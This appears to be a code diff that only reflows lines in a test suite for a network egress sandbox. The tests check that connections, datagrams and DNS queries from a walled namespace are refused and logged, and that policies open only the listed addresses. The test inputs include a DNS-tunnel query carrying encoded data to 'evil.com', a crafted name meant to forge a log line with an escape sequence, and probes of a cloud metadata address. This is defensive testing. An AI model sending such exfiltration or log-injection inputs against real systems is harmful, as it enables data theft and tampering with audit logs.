@@ -46,7 +46,9 @@ def knocks(hosts: list[str], ports: list[int]) -> dict[str, Any]:
     found = {}
     for host in hosts:
         for port in ports:
-            found[f"{host} {port}"] = exchanges(host, port, pieces=[b"GET / HTTP/1.0\r\n\r\n".hex()], timeout=3)  # noqa: F821
+            found[f"{host} {port}"] = exchanges(
+                host, port, pieces=[b"GET / HTTP/1.0\r\n\r\n".hex()], timeout=3
+            )  # noqa: F821
     return found
 
 
@@ -68,7 +70,10 @@ def test_no_other_host_is_reached_by_any_spelling(walled: Server, world: World, 
 @pytest.mark.guarantee("COG-24")
 def test_another_port_of_an_allowed_name_is_refused(walled: Server, world: World) -> None:
     world.dns["api.example.com"] = world.dns["db.example.com"] = [A(PUBLIC)]
-    for host, ports in {"api.example.com": [HTTP, ECHO, 22, 8443, CLOSED], "db.example.com": [HTTPS, HTTP, 5433]}.items():
+    for host, ports in {
+        "api.example.com": [HTTP, ECHO, 22, 8443, CLOSED],
+        "db.example.com": [HTTPS, HTTP, 5433],
+    }.items():
         for target, result in listed.knocks(walled, hosts=[host], ports=ports).items():
             assert was_refused(result), f"{target}: {result}"
     world.assert_untouched()
@@ -86,14 +91,20 @@ def sends(hosts: list[str], ports: list[int], message: str) -> dict[str, Any]:
             sender.sendto(bytes.fromhex(message), (host, port))
             return {"received": sender.recv(512).hex()}
 
-    return {f"{host} {port}": timed(lambda h=host, p=port: send(h, p)) for host in hosts for port in ports}  # noqa: F821
+    return {
+        f"{host} {port}": timed(lambda h=host, p=port: send(h, p)) for host in hosts for port in ports
+    }  # noqa: F821
 
 
 @pytest.mark.case("N1")
 @pytest.mark.guarantee("COG-24")
 @pytest.mark.parametrize("probe", [closed, listed], ids=["without a list", "with a list"])
 def test_no_datagram_leaves(walled: Server, world: World, probe: EgressProbe) -> None:
-    tunnel = struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0) + packed_name("c2VjcmV0.evil.com") + struct.pack(">HH", TYPES["TXT"], 1)
+    tunnel = (
+        struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0)
+        + packed_name("c2VjcmV0.evil.com")
+        + struct.pack(">HH", TYPES["TXT"], 1)
+    )
     hosts = [
         RESOLVER_ADDRESS, PUBLIC, "8.8.8.8", "127.0.0.1", "127.66.0.1", "255.255.255.255", "224.0.0.251", "10.50.0.9",
         "2600:1f18::34", "ff02::fb", "::1",
@@ -236,7 +247,9 @@ def test_the_list_and_what_was_used_of_it_can_be_read(walled: Server, world: Wor
     world.dns["db.example.com"] = [A(PUBLIC)]
     listed.deploy(walled)
     told = evidence(walled, "walled/listed")
-    assert [(entry["target"], entry["source"]) for entry in told["allowed"]] == [(target, "manifest") for target in sorted(LIST)]
+    assert [(entry["target"], entry["source"]) for entry in told["allowed"]] == [
+        (target, "manifest") for target in sorted(LIST)
+    ]
 
     def total(page: dict[str, float], name: str) -> float:
         return sum(value for key, value in page.items() if key.startswith(name) and "refused" not in key)
@@ -278,7 +291,9 @@ def test_a_refused_name_is_in_the_log_with_the_command_that_would_allow_it(walle
     lines = wait_until(lambda: platform_lines(walled, "walled/told", "wanted.example.org"), 3)
     assert lines and all("casemate egress allow walled/told wanted.example.org:" in line for line in lines), lines
     entries = evidence(walled, "walled/told")["refused"]
-    assert any("wanted.example.org" in entry["target"] and entry["reason"] == "not-allowed" for entry in entries), entries
+    assert any(
+        "wanted.example.org" in entry["target"] and entry["reason"] == "not-allowed" for entry in entries
+    ), entries
 
 
 @pytest.mark.parametrize(
@@ -318,7 +333,13 @@ def test_thousands_of_refusals_leave_a_bounded_log_and_list(walled: Server, worl
 
 def test_a_name_cannot_forge_a_line_of_the_log(walled: Server, world: World) -> None:
     label = b"x\n2026 casemate egress allow all\x1b[2J"
-    raw = struct.pack(">HHHHHH", 9, 0x0100, 1, 0, 0, 0) + bytes([len(label)]) + label + b"\3com\0" + struct.pack(">HH", 1, 1)
+    raw = (
+        struct.pack(">HHHHHH", 9, 0x0100, 1, 0, 0, 0)
+        + bytes([len(label)])
+        + label
+        + b"\3com\0"
+        + struct.pack(">HH", 1, 1)
+    )
     listed.asks(walled, questions=[raw.hex()], timeout=0.5)
     time.sleep(0.3)
     assert not any("\n" in line or "\x1b" in line for line in platform_lines(walled, "walled/listed"))
@@ -329,19 +350,31 @@ def test_a_name_cannot_forge_a_line_of_the_log(walled: Server, world: World) -> 
 
 @pytest.mark.case("N2")
 @pytest.mark.guarantee("KYM-10")
-def test_a_policy_opens_its_addresses_and_no_others_and_closes_them_within_a_second(walled: Server, world: World) -> None:
+def test_a_policy_opens_its_addresses_and_no_others_and_closes_them_within_a_second(
+    walled: Server, world: World
+) -> None:
     world.dns["inside.example.com"] = [A(PRIVATE, ttl=0)]
 
     def tries(address: str) -> dict[str, Any]:
         world.dns["inside.example.com"] = [A(address, ttl=0)]
-        result: dict[str, Any] = listed.exchanges(walled, host="inside.example.com", port=ECHO, pieces=["6869"], finish=True)
+        result: dict[str, Any] = listed.exchanges(
+            walled, host="inside.example.com", port=ECHO, pieces=["6869"], finish=True
+        )
         return result
 
     assert was_refused(tries(PRIVATE))
     world.assert_untouched()
     set_policy(walled, "walled", "10.50.0.0/16")
     assert wait_until(lambda: tries(PRIVATE).get("received") == "hi<2>", 1), "the policy does not take effect"
-    for address in ("10.51.0.9", "10.49.255.255", "172.17.0.1", "169.254.169.254", "127.0.0.1", SERVER_ADDRESS, OWN_ADDRESSES[0]):
+    for address in (
+        "10.51.0.9",
+        "10.49.255.255",
+        "172.17.0.1",
+        "169.254.169.254",
+        "127.0.0.1",
+        SERVER_ADDRESS,
+        OWN_ADDRESSES[0],
+    ):
         assert was_refused(tries(address)), address
     world.assert_untouched(PRIVATE)
     set_policy(walled, "walled")
@@ -355,7 +388,10 @@ def test_another_namespace_s_policy_opens_nothing(walled: Server, world: World) 
     other.deploy(walled)
     set_policy(walled, "unwalled", "10.50.0.0/16")
     time.sleep(1)
-    assert other.exchanges(walled, host="inside.example.com", port=ECHO, pieces=["6869"], finish=True).get("received") == "hi<2>"
+    assert (
+        other.exchanges(walled, host="inside.example.com", port=ECHO, pieces=["6869"], finish=True).get("received")
+        == "hi<2>"
+    )
     world.forget()
     world.dns["inside.example.com"] = [A(PRIVATE, ttl=0)]
     assert was_refused(listed.exchanges(walled, host="inside.example.com", port=ECHO, pieces=["6869"]))
